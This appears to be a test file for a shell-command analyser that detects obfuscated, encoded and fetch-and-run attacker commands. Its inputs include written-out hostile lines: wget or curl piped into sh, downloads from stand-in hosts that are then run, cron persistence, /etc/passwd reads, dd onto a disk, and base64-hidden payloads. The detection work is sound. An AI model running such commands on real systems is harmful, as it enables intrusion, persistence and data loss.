import assert from "assert";
import fc from "fast-check";
import { analyseCommand } from "../../../lib/rules/command/analysis.ts";
import { COMMAND_LIMITS } from "../../../lib/rules/command/limits.ts";
import type { SimpleCommand } from "../../../lib/rules/command/simple_command.ts";

/** Program and arguments of every command, as a person would read them. */
function lines(text: string): readonly string[] {
  return analyseCommand(text).commands.map(({ program, args }) => `${program} ${args}`.trim());
}

function command(text: string, program: string): SimpleCommand {
  const found = analyseCommand(text).commands.find((one) => one.program === program);
  assert.ok(found, `no ${program} in ${text}`);
  return found;
}

const READ_AS: readonly (readonly [text: string, commands: readonly string[]])[] = [
  ["cd /tmp || cd /var/run; wget -q x | sh & ls", [
    "cd /tmp",
    "cd /var/run",
    "wget -q x",
    "sh",
    "ls",
  ]],
  ["/bin/busybox chmod 777 .k; ./.k", ["chmod 777 .k", ".k"]],
  ["sudo -u www env A=1 nohup timeout -s KILL 5 nice -n 3 wget x", ["wget x"]],
  ["sudo -l; sudo -i; busybox; command -v curl", [
    "sudo -l",
    "sudo -i",
    "busybox",
    "command -v curl",
  ]],
  ["sh -c 'id; uname -a'", ["sh -c id; uname -a", "id", "uname -a"]],
  ['echo "$(id)" `w`', ["id", "w", "echo $(id) `w`"]],
  ["if [ -x /x ]; then id; else w; fi", ["[ -x /x ]", "id", "w"]],
  ["for a in 1 2; do who; done; f() { last; }; f", ["who", "last", "f"]],
  ["find / -name x -exec rm -f {} \\; -ok ls {} +", [
    "find / -name x -exec rm -f {} ; -ok ls {} +",
    "rm -f {}",
    "ls {}",
  ]],
  ["find . | xargs -I% -n1 rm %", ["find .", "rm %"]],
  ["ssh -p 22 root@192.0.2.1 'cat /etc/passwd'", [
    "ssh -p 22 root@192.0.2.1 cat /etc/passwd",
    "cat /etc/passwd",
  ]],
  ["su -c 'id' nobody", ["su -c id nobody", "id"]],
  ["docker exec -it web sh -c 'id'", ["docker exec -it web sh -c id", "sh -c id", "id"]],
  [`perl -e 'system("id");'`, [`perl -e system("id");`, "id"]],
  ["echo 'uname -a; id' | sh", ["echo uname -a; id", "sh", "uname -a", "id"]],
  ["sh <<E\nid\nE\n", ["sh", "id"]],
  ["bash <<< id", ["bash", "id"]],
  ["echo 'chmod +x .c && ./.c' >> .s", ["echo chmod +x .c && ./.c", "chmod +x .c", ".c"]],
  ["echo '*/5 * * * * root curl x | sh' > /etc/cron.d/a", [
    "echo */5 * * * * root curl x | sh",
    "curl x",
    "sh",
  ]],
  ["/ip cloud print; /system/resource/print", [
    "routeros:ip cloud print",
    "routeros:system resource print",
  ]],
  ["python3.11 x; egrep a; nodejs b", ["python x", "grep a", "node b"]],
  ["$SHELL -c id; $which_python -V; $CURL x", ["sh -c id", "id", "python -V", "curl x"]],
  ["env -S 'wget x'; env -i -S'curl y' z", ["wget x", "curl y z"]],
  [
    "unshare -r wget x; setpriv --reuid 0 id; /lib64/ld-linux-x86-64.so.2 /bin/id -u",
    [
      "wget x",
      "id ",
      "id -u",
    ].map((line) => line.trim()),
  ],
  ["#!/bin/sh; id", ["id"]],
  ["p=$(which python3); $p -V", ["which python3", "", "python -V"]],
];

for (const [text, commands] of READ_AS) {
  Deno.test(`reads the commands of ${JSON.stringify(text)}`, () => {
    assert.deepEqual(lines(text), commands);
  });
}

const TORN: readonly (readonly [text: string, commands: readonly string[]])[] = [
  ["; wget x", ["wget x"]],
  ["&& id | w", ["id", "w"]],
  ["foo; ) id", ["foo", "id"]],
  ["then id; fi; w", ["id", "w"]],
  ["/dev/null' > cfg; chmod 400 key", ["null", "chmod 400 key"]],
  ["id &gt; /dev/null 2&gt;&amp;1 &amp; w", ["id", "gt", "null 2", "gt", "amp", "1", "amp", "w"]],
  ["id\r\nw\0-h", ["id", "w -h"]],
  ["if true; then wget x", ["true", "wget x"]],
];

for (const [text, commands] of TORN) {
  Deno.test(`reads what is left of the torn text ${JSON.stringify(text)}`, () => {
    const found = lines(text);
    for (const line of commands.filter((one) => /^(wget|id|w|chmod)\b/.test(one))) {
      assert.ok(found.includes(line), `${line} is not in ${JSON.stringify(found)}`);
    }
  });
}

const HIDDEN: readonly (readonly [text: string, program: string, args: string])[] = [
  ["w'g'et http://192.0.2.1/a", "wget", "http://192.0.2.1/a"],
  ["c\\url${IFS}-O${IFS}http://192.0.2.1/a", "curl", "-O http://192.0.2.1/a"],
  ["$'\\x77get' x", "wget", "x"],
  ["a=w;b=get;$a$b x", "wget", "x"],
  ["{wget,-O,y,x}", "wget", "-O y x"],
  ["w$@get x", "wget", "x"],
  ["wh${nothing}oami", "whoami", ""],
  ['a="cat /etc/passwd"; $a', "cat", "/etc/passwd"],
  ["cat ${HOME:0:1}etc${PATH:0:1}passwd", "cat", "/etc/passwd"],
  ["X=TAC; ${X,,} f", "tac", "f"],
  ["${none:-wget} x", "wget", "x"],
];

for (const [text, program, args] of HIDDEN) {
  Deno.test(`sees through ${JSON.stringify(text)}`, () => {
    const found = command(text, program);
    assert.equal(found.args, args);
    assert.equal(found.obfuscated, true);
  });
}

Deno.test("plain quoting and escaping does not count as hidden", () => {
  for (
    const text of ["grep 'a b' \"c\"", "find . -name \\*.txt -exec ls {} \\;", 'echo "$HOME" $x']
  ) {
    assert.ok(analyseCommand(text).commands.every((one) => !one.obfuscated), text);
  }
});

const DECODED: readonly (readonly [text: string, decoded: readonly string[]])[] = [
  ["echo d2dldCB4 | base64 -d | sh", ["wget x"]],
  ['bash -c "$(echo d2dldCB4 | base64 --decode)"', []],
  ["echo 77676574 | xxd -r -p | bash", ["wget"]],
  ["echo -e '\\x77get x' | sh", ["wget x"]],
  ["printf '\\167get %s' x | sh", ["wget x"]],
  ["echo d2dldCB4 > f; base64 -d f > g; sh g", ["wget x"]],
  ["echo jtrg k | tr 'a-z' 'n-za-m' | sh", ["wget x"]],
  ["echo ZWNobyBaV05vYnlCcGNRbz0gfCBiYXNlNjQgLWQgfCBzaA== | base64 -d | sh", [
    "echo ZWNobyBpcQo= | base64 -d | sh",
    "echo iq\n",
  ]],
  ["echo d2dldCB4 | base64 -d", []],
];

for (const [text, decoded] of DECODED) {
  Deno.test(`payloads decoded and run in ${JSON.stringify(text)}`, () => {
    assert.deepEqual(analyseCommand(text).decoded, decoded);
  });
}

Deno.test("a decoded payload that is handed over as a word is read where it stands", () => {
  assert.equal(command('bash -c "$(echo d2dldCB4 | base64 --decode)"', "wget").args, "x");
  assert.equal(command("bash <<< $(base64 -d <<< d2dldCB4)", "wget").args, "x");
});

Deno.test("redirections, tee and dd name what is written and read", () => {
  assert.deepEqual(command("echo a >> /etc/passwd 2>/dev/null", "echo").writes, [
    "/etc/passwd",
    "/dev/null",
  ]);
  assert.deepEqual(command("echo a | tee -a /etc/cron.d/x", "tee").writes, ["/etc/cron.d/x"]);
  assert.deepEqual(command("dd if=/dev/zero of=/dev/sda", "dd").writes, ["/dev/sda"]);
  assert.deepEqual(command("sort < /etc/passwd", "sort").reads, ["/etc/passwd"]);
  assert.deepEqual(command("(id; w) > /tmp/o", "w").writes, ["/tmp/o"]);
});

Deno.test("pipes name who reads and who writes", () => {
  assert.deepEqual(command("curl x | base64 -d | sh", "curl").pipedInto, ["base64", "sh"]);
  assert.deepEqual(command("(wget a || curl b) | sh", "sh").pipedFrom, ["wget", "curl"]);
  assert.deepEqual(command('sh -c "$(curl x)"', "curl").pipedInto, ["sh"]);
  assert.deepEqual(command("source <(curl x)", "curl").pipedInto, ["sh", "source"]);
  assert.deepEqual(command("eval `wget -O- x`", "wget").pipedInto, ["sh"]);
});

const FETCHED: readonly (readonly [text: string, program: string, runs: boolean])[] = [
  ["wget http://h/a/x.sh; sh x.sh", "sh", true],
  ["curl -o /tmp/.z http://h/y; chmod 777 /tmp/.z; /tmp/.z", ".z", true],
  ["tftp -g -r m -l n 192.0.2.1; ./n", "n", true],
  ["ftpget -u a 192.0.2.1 loc rem; sh loc", "sh", true],
  ["wget -O- http://h/x | perl", "perl", true],
  ["wget http://h/x > y; ./y", "y", true],
  ["wget http://h/a.tgz; tar xzf a.tgz; cd a; ./run", "run", true],
  ["scp u@h:/x y; mv y z; ./z", "z", true],
  ["wget http://h/x.sh; sh other.sh", "sh", false],
  ["sh x.sh; wget http://h/x.sh", "sh", false],
  ["ls; ./x", "x", false],
];

for (const [text, program, runs] of FETCHED) {
  Deno.test(`${runs ? "runs" : "does not run"} what was fetched: ${JSON.stringify(text)}`, () => {
    assert.equal(command(text, program).runsFetched, runs);
  });
}

Deno.test("ranges point at the command in the text", () => {
  const text = "cd /tmp; echo $(id -u); sh -c 'wget x'";
  const slices = analyseCommand(text).commands.map(({ start, end }) => text.slice(start, end));
  assert.deepEqual(slices, [
    "cd /tmp",
    "id -u",
    "echo $(id -u)",
    "sh -c 'wget x'",
    "sh -c 'wget x'",
  ]);
});

const PIECES = [
  "wget ",
  "x",
  ";",
  "|",
  "&&",
  "$(",
  ")",
  "`",
  "'",
  '"',
  "\\",
  "\n",
  "{a,b}",
  "${IFS}",
  "$a",
  "a=",
  "<<E\n",
  "E\n",
  "> f ",
  "sh -c ",
  "echo -e '\\x77'",
  "base64 -d",
  "if ",
  "then ",
  "fi",
  "while ",
  "do ",
  "done",
  "case a in ",
  "esac",
  "find -exec ",
  "xargs ",
  "eval ",
  "\0",
  "\ud800",
  "((",
  "))",
  "[[",
  "]]",
  "sudo ",
];

const MOST_COMMANDS = COMMAND_LIMITS.commands + COMMAND_LIMITS.separatedCommands;

Deno.test("any text gives an analysis within its limits", () => {
  const texts = fc.oneof(
    fc.string({ unit: "binary", maxLength: 300 }),
    fc.array(fc.constantFrom(...PIECES), { maxLength: 60 }).map((pieces) => pieces.join("")),
  );
  fc.assert(
    fc.property(texts, (text) => {
      const { commands } = analyseCommand(text);
      assert.ok(commands.length <= MOST_COMMANDS);
      for (const { start, end } of commands) {
        assert.ok(start >= 0 && start <= end && end <= text.length, `${start}..${end}`);
      }
    }),
    { numRuns: 2_000 },
  );
});

Deno.test("texts that grow when they are expanded stay within the limits", () => {
  const bombs = [
    `a=${"x".repeat(16)};${"a=$a$a;".repeat(60)}${"echo $a $a;".repeat(3_000)}`,
    `echo ${"{a,b}".repeat(4_000)}`,
    "find -exec ".repeat(6_000),
    "$(".repeat(30_000),
    "sh -c '".repeat(8_000),
    "echo 'a b' > c; ".repeat(4_000),
    "a | ".repeat(20_000),
  ];
  for (const bomb of bombs) {
    const { commands } = analyseCommand(bomb);
    assert.ok(commands.length <= MOST_COMMANDS);
  }
});

Deno.test("a text beyond the limit is said to be cut", () => {
  assert.equal(analyseCommand("id").truncated, false);
  assert.equal(analyseCommand(`${"#".repeat(COMMAND_LIMITS.textCharacters)}\nid`).truncated, true);
});
